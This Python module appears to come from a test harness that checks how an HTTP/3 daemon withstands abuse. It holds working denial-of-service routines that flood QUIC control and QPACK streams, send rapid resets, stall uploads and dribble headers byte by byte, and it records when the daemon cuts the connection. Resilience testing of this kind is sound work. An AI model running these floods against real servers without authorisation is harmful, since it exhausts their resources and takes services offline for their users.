"""Attacks over HTTP/3 and QUIC (RFC 9114, RFC 9204)."""

import contextlib
import time
from concurrent.futures import ThreadPoolExecutor

from harness.http3 import Http3, frame, section, varint

from .outcome import Outcome

DATA, HEADERS, CANCEL_PUSH, SETTINGS, PUSH_PROMISE, GOAWAY, MAX_PUSH_ID = 0, 1, 3, 4, 5, 7, 0x0D
PRIORITY_UPDATE, RESERVED = 0xF0700, 0x21
PATIENCE = 12
FLOOD = 4
# The daemon opens no more request streams at once than it allows; an attack stays below that.
STREAMS = 90


def _connect(at, **more):
    return Http3(at, at.name, source=at.source, **more)


def _flood(at, send, piece, seconds=FLOOD):
    """Calls `send(visitor, piece)` again and again until the connection is closed."""
    with _connect(at) as visitor:
        stream = send(visitor)
        began, sent = time.monotonic(), 0
        while not visitor.closed and time.monotonic() < began + seconds:
            # The library buffers without a limit, so that it is given no more than the daemon takes.
            # The library forgets a stream that the daemon has reset.
            with contextlib.suppress(KeyError, AssertionError, ValueError):
                if visitor.do(stream.backlog) < 1 << 16:
                    stream.write(piece)
                    sent += len(piece)
            time.sleep(0.0005)
        ended = time.monotonic() - began if visitor.closed else None
        return Outcome(sent, 1, 1, ended, str(visitor.closed))


class _Written:
    """A stream that takes raw bytes."""

    def __init__(self, visitor, number):
        self.visitor, self.number = visitor, number

    def write(self, data):
        self.visitor.do(lambda: self.visitor.quic.send_stream_data(self.number, data))

    def backlog(self):
        sender = self.visitor.quic._streams[self.number].sender
        return sender._buffer_stop - sender._buffer_start


def _control(visitor):
    return _Written(visitor, visitor.h3._local_control_stream_id)


def _decoder(visitor):
    return _Written(visitor, visitor.h3._local_decoder_stream_id)


def _encoder(visitor):
    return _Written(visitor, visitor.h3._local_encoder_stream_id)


def _upload(visitor):
    stream = visitor.request("/upload", method="POST", end=False)
    return _Written(visitor, stream.id)


def max_push_ids(at):
    numbers = iter(range(1 << 40))

    class Rising(_Written):
        def write(self, data):
            super().write(b"".join(frame(MAX_PUSH_ID, varint(next(numbers))) for _ in range(500)))

    return _flood(at, lambda visitor: Rising(visitor, visitor.h3._local_control_stream_id), bytes(2000))


def goaways(at):
    return _flood(at, _control, frame(GOAWAY, varint(0)) * 500)


def cancelled_pushes(at):
    return _flood(at, _control, frame(MAX_PUSH_ID, varint(9)) + frame(CANCEL_PUSH, varint(0)) * 500)


def priority_updates(at):
    return _flood(at, _control, frame(PRIORITY_UPDATE, varint(0) + b"u=1") * 300)


def reserved_frames(at):
    return _flood(at, _control, frame(RESERVED) * 1000)


def stream_cancellations(at):
    """QPACK's stream cancellation, of streams that have no dynamic entries (RFC 9204, section 4.4.2)."""
    return _flood(at, _decoder, b"\x41" * 2000)


def table_capacities(at):
    return _flood(at, _encoder, b"\x20" * 2000)


def data_of_one_byte(at):
    return _flood(at, _upload, frame(DATA, b"x") * 700)


def empty_data(at):
    """Uploads of DATA frames of no bytes. The daemon resets such a stream after a while, and the visitor opens the next."""

    def more(visitor):
        with contextlib.suppress(AssertionError, ValueError):
            visitor.request("/upload", method="POST", end=False).send_raw(frame(DATA) * 500)

    return _churn(at, more)


def _churn(at, more):
    with _connect(at) as visitor:
        began, count = time.monotonic(), 0
        while not visitor.closed and time.monotonic() < began + FLOOD:
            for _ in range(20):
                more(visitor)
            count += 20
            # Lets its thread read.
            time.sleep(0.001)
        ended = time.monotonic() - began if visitor.closed else None
        return Outcome(100 * count, 1, count, ended, str(visitor.closed))


def rapid_resets(at):
    """Requests that are taken back at once."""
    return _churn(at, lambda visitor: visitor.request("/").cancel())


def unknown_streams(at):
    """Unidirectional streams of a reserved type that end at once."""
    return _churn(at, lambda visitor: visitor.raw_unidirectional(varint(RESERVED) + b"x", end=True))


def _until_reset(at, visitors, streams):
    began, ended = time.monotonic(), None
    while time.monotonic() < began + PATIENCE:
        if all(v.closed or all(s.reset is not None or s.ended or s.stopped is not None for s in mine) for v, mine in streams):
            ended = time.monotonic() - began
            break
        time.sleep(0.02)
    for visitor in visitors:
        visitor.leave()
    count = sum(len(mine) for _, mine in streams)
    return Outcome(100 * count, len(visitors), count, ended)


def _crowd(at, number, **more):
    with ThreadPoolExecutor(number) as pool:
        return list(pool.map(lambda _: _connect(at, **more), range(number)))


def unread_streams(at):
    """Downloads that are read as far as their first window."""
    visitors = _crowd(at, at.many(2), greedy=False, window=1 << 20)
    streams = [(visitor, [visitor.request("/huge") for _ in range(STREAMS)]) for visitor in visitors]
    return _until_reset(at, visitors, streams)


def stalled_uploads(at):
    """Uploads that stand still, enough to take every place of the tunnel."""
    visitors = _crowd(at, at.many(12))
    streams = [(v, [v.request("/upload", method="POST", end=False) for _ in range(STREAMS)]) for v in visitors]
    return _until_reset(at, visitors, streams)


def unread_uploads(at):
    """Uploads to a service that takes nothing, as far as the windows reach."""
    visitors = _crowd(at, at.many(4))
    streams = []
    for visitor in visitors:
        mine = [visitor.request("/ignored", method="POST", end=False) for _ in range(STREAMS)]
        for stream in mine:
            stream.send(bytes(1 << 18))
        streams.append((visitor, mine))
    return _until_reset(at, visitors, streams)


def slow_heads(at):
    """Heads that come byte by byte and never end."""
    visitors = _crowd(at, at.many(4))
    head = frame(HEADERS, section(*[(b"x", b"y" * 1000)] * 3))
    streams = [(visitor, [visitor.raw(head[:3]) for _ in range(STREAMS)]) for visitor in visitors]
    began = time.monotonic()
    for position in range(3, len(head)):
        for _, mine in streams:
            for stream in mine:
                if stream.reset is None and stream.stopped is None and not stream.visitor.closed:
                    stream.send_raw(head[position : position + 1])
        if time.monotonic() > began + PATIENCE or all(
            v.closed or all(s.reset is not None or s.stopped is not None for s in mine) for v, mine in streams
        ):
            break
        time.sleep(0.2)
    outcome = _until_reset(at, visitors, streams)
    outcome.ended = None if outcome.ended is None else time.monotonic() - began
    return outcome
